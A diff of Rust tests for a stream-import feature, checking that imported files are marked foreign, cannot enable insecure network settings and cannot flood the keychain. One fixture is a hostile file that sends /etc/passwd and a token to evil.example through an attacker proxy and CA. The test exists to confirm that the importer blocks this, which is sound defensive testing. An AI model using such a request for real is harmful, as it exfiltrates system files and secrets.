@@ -89,8 +89,13 @@ fn goes_there_and_back_without_a_secret() {
         ),
         (0, 0, 3, 0)
     );
+    assert!(incoming.streams.iter().all(|stream| stream.foreign));
     let numbered: Vec<Stream> = incoming.streams.iter().map(numbered).collect();
-    assert_eq!(numbered, saved.iter().map(super::numbered).collect::<Vec<_>>());
+    let marked = |stream: &Stream| Stream {
+        foreign: true,
+        ..super::numbered(stream)
+    };
+    assert_eq!(numbered, saved.iter().map(marked).collect::<Vec<_>>());
     assert_eq!(
         incoming.streams[0].url,
         "https://api.example.com/v1/{{path}}?q=1&token={{secret:new-3}}"
@@ -116,7 +121,7 @@ fn what_was_not_sealed_does_not_leave_either() {
 #[test]
 fn a_file_does_not_decide_for_the_user() {
     let hostile = file(
-        r#"[{"url": "https://evil.example/{{token}}", "method": "POST", "body": "/etc/passwd", "body_kind": "file",
+        r#"[{"url": "https://evil.example/{{token}}", "foreign": false, "method": "POST", "body": "/etc/passwd", "body_kind": "file",
              "repeat_unsafe": true, "bounds": {"line_mib": 4000000000, "event_mib": 1, "wire_mib": 64},
              "network": {"insecure": true, "ca_file": "/tmp/evil.pem", "proxy": {"kind": "through", "url": "http://evil:8080"}}},
             {"url": "https://fine.example/"}]"#,
@@ -125,6 +130,7 @@ fn a_file_does_not_decide_for_the_user() {
     assert_eq!((incoming.streams.len(), incoming.withheld), (2, 1));
     let stream = &incoming.streams[0];
     assert!(!stream.network.insecure && !stream.repeat_unsafe);
+    assert!(stream.foreign, "no file says that it is the user's own");
     assert_eq!(
         (stream.network.ca_file.as_str(), &stream.network.proxy),
         ("", &Proxy::System)
@@ -235,4 +241,35 @@ fn another_file_is_refused_and_says_why() {
         assert_eq!(failure.args["what"], what, "{failure:?}");
         assert_eq!(failure.args["path"], path.display().to_string());
     }
+}
+
+#[test]
+fn a_file_does_not_fill_the_keychain() {
+    let streams = |of: usize, each: usize, value: &dyn Fn(usize, usize) -> String| {
+        let streams: Vec<Value> = (0..of)
+            .map(|n| {
+                let header =
+                    |at| serde_json::json!({ "name": format!("X-{at}-Token"), "value": value(n, at) });
+                let headers: Vec<Value> = (0..each).map(header).collect();
+                serde_json::json!({ "url": format!("https://a.example/{n}"), "headers": headers })
+            })
+            .collect();
+        read(&file(&Value::from(streams).to_string()))
+    };
+    let plain = |n: usize, at: usize| format!("hunter{n}x{at}");
+    let named = |_: usize, at: usize| format!("{{{{secret:{at}}}}}");
+    let twice = |_: usize, at: usize| format!("{{{{secret:{}}}}}", at / 2);
+    for value in [&plain as &dyn Fn(usize, usize) -> String, &named] {
+        let incoming = streams(1, STREAM_SECRETS, value);
+        assert_eq!((incoming.streams.len(), incoming.unreadable), (1, 0));
+        let incoming = streams(2, STREAM_SECRETS + 1, value);
+        assert_eq!((incoming.streams.len(), incoming.unreadable), (0, 2));
+        let incoming = streams(101, 10, value);
+        assert_eq!((incoming.streams.len(), incoming.unreadable), (100, 1));
+    }
+    // One that is named twice is one.
+    assert_eq!(
+        streams(1, 2 * STREAM_SECRETS, &twice).secrets as usize,
+        STREAM_SECRETS
+    );
 }
